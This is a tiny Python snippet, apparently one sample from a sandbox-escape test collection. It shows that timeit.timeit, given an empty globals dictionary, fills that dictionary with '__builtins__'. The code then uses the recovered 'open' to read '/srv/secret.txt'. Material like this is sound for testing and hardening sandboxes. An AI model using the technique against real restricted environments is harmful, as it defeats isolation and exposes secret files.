# reaches: timeit fills a dictionary with the builtins
import timeit

held = {}
timeit.timeit(lambda: None, number=1, globals=held)
print(held['__builtins__']['open']('/srv/secret.txt').read())
